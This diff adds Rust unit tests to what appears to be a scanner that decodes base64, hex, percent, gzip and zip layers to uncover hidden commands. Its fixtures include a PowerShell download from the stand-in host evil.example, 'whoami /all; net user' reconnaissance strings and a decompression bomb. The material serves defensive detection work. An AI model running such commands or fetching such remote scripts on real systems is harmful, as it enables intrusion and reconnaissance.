@@ -232,7 +232,7 @@ mod tests {
     use zip::write::SimpleFileOptions;
 
     use super::*;
-    use crate::model::{Cancel, Limits};
+    use crate::model::{Cancel, Limits, parted_hex};
 
     fn unpacked(text: &str) -> Unpacked {
         unpack(text, &mut Budget::new(Limits::default(), &Cancel::default()))
@@ -393,6 +393,40 @@ mod tests {
     }
 
     #[test]
+    fn every_notation_is_looked_for_inside_of_every_other() {
+        let script = "Invoke-WebRequest http://evil.example/x.ps1";
+        let percent = format!("%{}", parted_hex(script.as_bytes(), "%"));
+        let list = script.bytes().map(|b| format!("{b:#04x}")).collect::<Vec<_>>().join(",");
+        for inner in [hex(script.as_bytes()), percent, list] {
+            let text = STANDARD.encode(&inner);
+            assert_eq!(texts(&text), [inner.as_str(), script], "{text}");
+        }
+    }
+
+    #[test]
+    fn slashes_that_json_escapes_are_read_over() {
+        let script = "?>>?>?>?? whoami /all; net user >>>???";
+        let (encoded, packed) =
+            (STANDARD.encode(script), STANDARD.encode(gzip(&[b"ping ?>?> ", script.as_bytes()].concat())));
+        assert!(encoded.contains('/') && packed.contains('/'));
+        let in_json = |text: &str| format!(r#"{{"d":"{}"}}"#, text.replace('/', r"\/"));
+        assert_eq!(texts(&in_json(&encoded)), [script]);
+        assert_eq!(texts(&in_json(&packed)).last().map(String::as_str), Some(&*format!("ping ?>?> {script}")));
+        assert_eq!(found(r#"{"path":"\/usr\/local\/lib\/python3\/dist-packages\/setuptools"}"#), []);
+    }
+
+    #[test]
+    fn a_bomb_hides_nothing_behind_it() {
+        let bomb = STANDARD.encode(gzip(&vec![0; 60 << 20]));
+        let all = unpacked(&format!("{bomb} {0} {bomb} {0}", STANDARD.encode("whoami /all and then some")));
+        let said: Vec<_> = all.findings.iter().filter_map(|f| f.text.as_deref()).collect();
+        assert_eq!(said, ["whoami /all and then some"; 2]);
+        assert_eq!(all.findings.iter().filter(|f| f.truncated.is_some()).count(), 2);
+        let archive = STANDARD.encode(zip(&[("bomb", &vec![0; 60 << 20]), ("ok.txt", b"whoami /all and then some")]));
+        assert!(texts(&archive).contains(&"whoami /all and then some".to_owned()), "{:?}", texts(&archive));
+    }
+
+    #[test]
     fn fingerprints_and_public_keys_are_no_payloads() {
         let key = STANDARD_NO_PAD.encode([b"\0\0\0\x0bssh-ed25519\0\0\0 ".as_slice(), &[0x5a; 32]].concat());
         // The fingerprint decodes to text, so that nothing but the word before it speaks against it.
@@ -550,7 +584,10 @@ mod tests {
             let all = unpacked(&STANDARD.encode(packed));
             let last = all.findings.last().unwrap();
             let reason = last.truncated.as_deref().unwrap();
-            assert!(["200 times its size", "8,388,608 bytes is the limit of one cell"].contains(&reason), "{reason}");
+            assert!(
+                reason == "200 times its size" || reason.ends_with("bytes is its share of what one cell may take"),
+                "{reason}"
+            );
             assert!(last.size <= 8 << 20 && last.bytes.len() <= 1 << 20 && all.full.len() <= 1 << 20);
         }
     }
